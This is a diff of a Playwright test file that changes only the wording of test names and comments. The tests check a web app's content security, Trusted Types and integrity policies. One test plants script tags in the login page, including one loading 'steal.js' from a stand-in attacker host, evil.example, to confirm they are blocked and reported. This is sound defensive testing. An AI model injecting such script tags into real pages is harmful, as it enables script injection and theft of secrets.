@@ -2,7 +2,7 @@ import type { Page } from '@playwright/test';
 import { AREAS } from '../areas';
 import { expect, test } from '../fixtures';
 
-test('no area is against the page’s policies, which allow no inline code, no eval and no HTML from text', async ({
+test('all areas comply with the page’s policies against inline code, eval and HTML from text', async ({
   signIn,
 }) => {
   const page = await signIn('admin', '/nowhere');
@@ -13,14 +13,14 @@ test('no area is against the page’s policies, which allow no inline code, no e
   expect(policy).not.toContain('unsafe');
   expect(headers['integrity-policy']).toContain('blocked-destinations=(script)');
 
-  // policyGuard fails this test, like every other, when a page reports a violation.
+  // policyGuard fails every test in which a page reports a violation.
   for (const { path, row } of AREAS) {
     await page.goto(path);
     await expect(row(page)).toBeVisible();
   }
 });
 
-/** Notes the violations of pages to come in `window.refused` and keeps them from the guard. */
+/** Collects violations of later pages in `window.refused` and hides them from the guard. */
 async function expectViolations(page: Page) {
   await page.addInitScript(() => {
     const refused = new Set<string>();
@@ -28,7 +28,7 @@ async function expectViolations(page: Page) {
     document.addEventListener(
       'securitypolicyviolation',
       (event) => {
-        // This time it is wanted: the guard, which listens later, is not told.
+        // Expected here: stops the event before the guard's listener.
         event.stopImmediatePropagation();
         refused.add(`${event.effectiveDirective} ${event.blockedURI}`);
       },
@@ -37,7 +37,7 @@ async function expectViolations(page: Page) {
     const observer = new ReportingObserver(
       (reports) => {
         for (const { body } of reports) {
-          // TypeScript's DOM library does not know this kind of report.
+          // TypeScript's DOM library lacks this type of report.
           const { blockedURL, destination } = body as unknown as Record<string, string>;
           refused.add(`integrity of ${String(destination)} ${String(blockedURL)}`);
         }
@@ -49,14 +49,14 @@ async function expectViolations(page: Page) {
   return {
     read: () =>
       page.evaluate(() => {
-        // Set by the observer above, which TypeScript can't see across evaluations.
+        // Set by the observer above; TypeScript cannot see across evaluations.
         const { refused } = window as unknown as { refused: ReadonlySet<string> };
         return [...refused].sort();
       }),
   };
 }
 
-test('text becomes neither code nor HTML nor a script’s address, and no file comes from elsewhere', async ({
+test('the policies block text as code, HTML or script URL, and files from other origins', async ({
   page,
 }) => {
   const refused = await expectViolations(page);
@@ -76,7 +76,7 @@ test('text becomes neither code nor HTML nor a script’s address, and no file c
       script.src = src;
       document.head.append(script);
     };
-    // Chromium's own type is in no library of TypeScript yet.
+    // TypeScript's DOM library lacks this type.
     const { trustedTypes } = window as unknown as {
       trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
     };
@@ -137,7 +137,7 @@ test('text becomes neither code nor HTML nor a script’s address, and no file c
   await expect(page).toHaveTitle('Login · Atrium');
 });
 
-test('a page with planted scripts runs none of them and reports them to the server’s log', async ({
+test('injected scripts do not run and are reported to the server’s log', async ({
   page,
   product,
 }) => {
@@ -150,7 +150,7 @@ test('a page with planted scripts runs none of them and reports them to the serv
     const planted = [
       '<script>window.planted = "inline"</script>',
       '<script src="https://evil.example/steal.js?secret" crossorigin="anonymous"></script>',
-      // A file of this server, without the hash that its release has recorded.
+      // A file of this server without its integrity hash.
       `<script src="${boot}?secret" crossorigin="anonymous"></script>`,
     ];
     await route.fulfill({ response, body: html.replace('<head>', `<head>${planted.join('')}`) });
@@ -171,7 +171,7 @@ test('a page with planted scripts runs none of them and reports them to the serv
   expect(answered.filter((url) => url.includes('?secret'))).toEqual([
     `${product.origin}/login?secret`,
   ]);
-  // Violations of Integrity-Policy are reported over TLS alone.
+  // Browsers report violations of Integrity-Policy only over TLS.
   const isLogged = (line: string) =>
     line.includes('"securityEvent":"policy_violation"') && line.includes('"page":"/login"');
   await expect
